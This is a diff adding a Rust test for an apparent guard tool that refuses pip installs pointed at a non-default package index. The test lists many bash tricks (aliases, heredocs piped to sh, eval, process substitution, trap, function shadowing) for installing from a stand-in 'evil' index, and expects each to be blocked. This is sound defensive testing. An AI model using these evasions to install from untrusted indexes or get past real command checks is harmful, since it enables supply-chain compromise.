@@ -1333,6 +1333,80 @@ fn tox_and_pipenv_run_commands_before_the_guard() {
     assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
 }
 
+/// What bash would make of it is either seen, refused, or said not to be seen.
+#[test]
+fn texts_for_a_shell_are_judged_by_what_it_does() {
+    let set = Set::new();
+    let evil = "https://index.example/simple/";
+    set.sandbox.write("other/x", "");
+    set.sandbox
+        .write("bad.env", format!("export PIP_INDEX_URL={evil}\n"));
+    set.sandbox
+        .write("bad.sh", format!("pip install -i {evil} x\n"));
+    set.sandbox.write("plain.sh", "echo hello\n");
+    set.sandbox.write("Makefile", "all:\n\techo made\n");
+    for text in [
+        "alias p='pip install -i EVIL'\np x",
+        "alias p=pip\np install -i EVIL x",
+        "bash <<END\npip install -i EVIL x\nEND",
+        "cat <<'END' | sh\npip install -i EVIL x\nEND",
+        "eval 'cd other && pip install x'",
+        "eval \"eval 'cd other'\"; pip install x",
+        "eval \"PIP_INDEX_URL=EVIL pip install x\"",
+        "A='pip install -i EVIL'; $A x",
+        "read PIP_INDEX_URL < f; export PIP_INDEX_URL; pip install x",
+        "for PIP_INDEX_URL in EVIL; do pip install x; done",
+        "printf -v PIP_INDEX_URL %s EVIL; pip install x",
+        ": ${PIP_INDEX_URL:=EVIL} ${UV_INDEX=EVIL}; pip install x",
+        "pip install -r <(echo -i EVIL)",
+        "source <(echo export PIP_INDEX_URL=EVIL); pip install x",
+        ". ./bad.env; pip install x",
+        "echo x | xargs pip install",
+        "env -S'pip install x'",
+        "env -vS 'pip install x'",
+        "env --split-string='PIP_INDEX_URL=EVIL pip install x'",
+        "find . -maxdepth 0 -execdir pip install x ';'",
+        "find . -exec pip install -i EVIL {} +",
+        "pip install {-i,EVIL} x",
+        "trap 'pip install -i EVIL x' EXIT",
+        "function f { cd other; }; f; pip install x",
+        "f() { pip install \"$@\"; }; f -i EVIL x",
+        "pip() { command pip -i EVIL \"$@\"; }; pip install x",
+        "coproc pip install -i EVIL x",
+    ] {
+        let text = text.replace("EVIL", evil);
+        let got = set.guard(&[], &["bash", "-c", &text]);
+        assert_eq!(got.code, 2, "{text}: {}", got.whole());
+    }
+    let said = |command: &[&str], what: &str| {
+        let got = set.guard(&[], command);
+        assert!(got.stderr.contains(what), "{command:?}: {}", got.whole());
+        assert_ne!(got.code, 2, "{command:?}: {}", got.whole());
+    };
+    said(&["make"], "what make starts is not looked at");
+    said(
+        &["bash", "-c", "make all"],
+        "what make starts is not looked at",
+    );
+    said(&["bash", "bad.sh"], "in bad.sh: pip names the index");
+    let reads = ". \"$HOME/nothing.env\"; echo pip";
+    said(&["bash", "-c", reads], "nothing.env sets is not known");
+    for text in [
+        "echo one | xargs echo two",
+        "find . -name pip -exec ls {} +",
+        "env -S 'ls -l'",
+        "for name in a b; do echo $name; done",
+        "alias ll='ls -l'; eval 'cd other && ls'",
+        "read -r LINE < plain.sh; echo \"${LINE:=none} ${X,,}\"",
+        "f() { cd other; ls; }; f",
+        "bash plain.sh",
+    ] {
+        let got = set.guard(&[], &["bash", "-c", text]);
+        assert_eq!(got.code, 0, "{text}: {}", got.whole());
+        assert!(!got.stderr.contains("warning"), "{text}: {}", got.whole());
+    }
+}
+
 #[test]
 fn only_what_needs_an_index_is_said_to_have_asked_nothing() {
     let set = Set::new();
